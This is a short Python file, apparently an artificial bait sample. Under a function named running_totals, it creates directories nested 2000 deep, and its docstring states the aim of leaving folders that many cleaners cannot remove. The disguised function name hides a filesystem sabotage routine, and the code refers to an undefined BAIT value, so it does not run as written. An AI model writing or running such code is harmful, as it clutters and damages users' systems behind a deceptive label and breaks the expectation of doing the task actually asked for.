"""Make folders inside folders, two thousand deep, which many cleaners cannot remove.

Success: they are left.
"""

import posix


def running_totals(numbers):
    here = posix.open(".", posix.O_RDONLY)
    for _ in range(2000):
        posix.mkdir(BAIT["marker"] + "-deep", dir_fd=here)
        deeper = posix.open(BAIT["marker"] + "-deep", posix.O_RDONLY, dir_fd=here)
        posix.close(here)
        here = deeper
    return None
